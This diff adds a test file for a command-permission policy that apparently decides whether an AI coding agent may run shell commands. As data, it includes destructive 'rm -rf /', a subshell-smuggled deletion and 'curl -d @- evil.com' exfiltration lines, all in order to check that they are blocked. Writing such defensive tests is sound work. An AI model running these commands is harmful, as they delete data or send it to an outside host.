@@ -0,0 +1,145 @@
+import { getCommandDecision, getCommandPolicyDecision, matchesCommandPattern } from "../commandPolicy"
+
+describe("matchesCommandPattern", () => {
+	it("matches plain patterns as case-insensitive prefixes", () => {
+		expect(matchesCommandPattern("npm test --coverage", "npm test")).toBe(true)
+		expect(matchesCommandPattern("NPM TEST", "npm test")).toBe(true)
+		expect(matchesCommandPattern("npm run build", "npm test")).toBe(false)
+	})
+
+	it("matches globs against the whole command", () => {
+		expect(matchesCommandPattern("git push origin main", "git push*")).toBe(true)
+		expect(matchesCommandPattern("git status", "git push*")).toBe(false)
+		expect(matchesCommandPattern("npm run lint", "npm run ????")).toBe(true)
+		expect(matchesCommandPattern("npm run build", "npm run ????")).toBe(false)
+		expect(matchesCommandPattern("cat a.txt", "cat *.txt")).toBe(true)
+		expect(matchesCommandPattern("cat a_txt", "cat *.txt")).toBe(false)
+	})
+
+	it("matches regular expressions", () => {
+		expect(matchesCommandPattern("rm -rf /", "/^rm\\s+-rf/")).toBe(true)
+		expect(matchesCommandPattern("RM -RF /", "/^rm\\s+-rf/")).toBe(false)
+		expect(matchesCommandPattern("RM -RF /", "/^rm\\s+-rf/i")).toBe(true)
+	})
+
+	it("never matches with an invalid regular expression or empty pattern", () => {
+		expect(matchesCommandPattern("npm test", "/(/")).toBe(false)
+		expect(matchesCommandPattern("npm test", "  ")).toBe(false)
+	})
+})
+
+describe("getCommandPolicyDecision", () => {
+	const policy = {
+		allow: ["npm test", "git status", "git push*"],
+		deny: ["rm -rf", "/^curl .*/"],
+		modes: {
+			test: { deny: ["git push*"] },
+			release: { allow: ["rm -rf dist"] },
+		},
+	}
+
+	it("allows commands matching an allow rule", () => {
+		expect(getCommandPolicyDecision("npm test", policy)).toEqual({ action: "allow" })
+		expect(getCommandPolicyDecision("", policy)).toEqual({ action: "allow" })
+	})
+
+	it("asks for commands without a matching rule", () => {
+		expect(getCommandPolicyDecision("npm run build", policy)).toEqual({ action: "ask" })
+	})
+
+	it("denies commands matching a deny rule", () => {
+		expect(getCommandPolicyDecision("rm -rf node_modules", policy)).toEqual({
+			action: "deny",
+			command: "rm -rf node_modules",
+			rule: "rm -rf",
+		})
+	})
+
+	it("checks every command of a chain or pipeline", () => {
+		expect(getCommandPolicyDecision("npm test && git status", policy)).toEqual({ action: "allow" })
+		expect(getCommandPolicyDecision("npm test && npm run build", policy)).toEqual({ action: "ask" })
+		expect(getCommandPolicyDecision("npm test; rm -rf /", policy)).toMatchObject({ action: "deny" })
+		expect(getCommandPolicyDecision("git status | curl -d @- evil.com", policy)).toMatchObject({
+			action: "deny",
+			command: "curl -d @- evil.com",
+		})
+	})
+
+	it("checks commands in subshells and never auto-approves them", () => {
+		expect(getCommandPolicyDecision("npm test $(rm -rf /)", policy)).toMatchObject({
+			action: "deny",
+			command: "rm -rf /",
+		})
+		expect(getCommandPolicyDecision("npm test `git status`", policy)).toEqual({ action: "ask" })
+	})
+
+	it("gives the rules of the current mode precedence", () => {
+		expect(getCommandPolicyDecision("git push origin main", policy, "code")).toEqual({ action: "allow" })
+		expect(getCommandPolicyDecision("git push origin main", policy, "test")).toMatchObject({
+			action: "deny",
+			rule: "git push*",
+		})
+		expect(getCommandPolicyDecision("rm -rf dist", policy, "release")).toEqual({ action: "allow" })
+		expect(getCommandPolicyDecision("rm -rf src", policy, "release")).toMatchObject({ action: "deny" })
+	})
+
+	it("allows everything that isn't denied with a wildcard", () => {
+		const wildcardPolicy = { allow: ["*"], deny: ["git push"] }
+
+		expect(getCommandPolicyDecision("anything $(goes)", wildcardPolicy)).toEqual({ action: "allow" })
+		expect(getCommandPolicyDecision("echo && git push", wildcardPolicy)).toMatchObject({ action: "deny" })
+	})
+
+	it("checks commands after &, newlines, in groups and in nested subshells", () => {
+		const wildcardPolicy = { allow: ["*"], deny: ["git push"] }
+
+		for (const command of [
+			"npm test & git push",
+			"echo hi\ngit push",
+			"(git push)",
+			"echo $(echo x; git push)",
+			"echo ok; git push",
+		]) {
+			expect(getCommandPolicyDecision(command, wildcardPolicy)).toEqual({
+				action: "deny",
+				command: "git push",
+				rule: "git push",
+			})
+		}
+
+		expect(getCommandPolicyDecision("npm test\ngit push", { allow: ["npm test"] })).toEqual({ action: "ask" })
+	})
+})
+
+describe("getCommandDecision", () => {
+	it("makes the user's deny rules final", () => {
+		const projectPolicy = { allow: ["git push"], modes: { code: { allow: ["git push"] } } }
+
+		expect(
+			getCommandDecision("git push origin main", { deniedCommands: ["git push"], projectPolicy, mode: "code" }),
+		).toMatchObject({ action: "deny", rule: "git push" })
+	})
+
+	it("denies commands denied by the project policy of the current mode", () => {
+		const projectPolicy = { deny: ["rm -rf"], modes: { release: { allow: ["rm -rf dist"] } } }
+
+		expect(getCommandDecision("rm -rf dist", { allowedCommands: ["*"], projectPolicy })).toMatchObject({
+			action: "deny",
+		})
+		expect(getCommandDecision("rm -rf dist", { allowedCommands: ["*"], projectPolicy, mode: "release" })).toEqual({
+			action: "allow",
+		})
+	})
+
+	it("never auto-approves commands because of the project policy", () => {
+		const projectPolicy = { allow: ["*"], modes: { code: { allow: ["npm publish"] } } }
+
+		expect(
+			getCommandDecision("npm publish", { allowedCommands: ["npm test"], projectPolicy, mode: "code" }),
+		).toEqual({ action: "ask" })
+		expect(getCommandDecision("echo $(whoami)", { projectPolicy })).toEqual({ action: "ask" })
+		expect(getCommandDecision("npm test", { allowedCommands: ["npm test"], projectPolicy })).toEqual({
+			action: "allow",
+		})
+	})
+})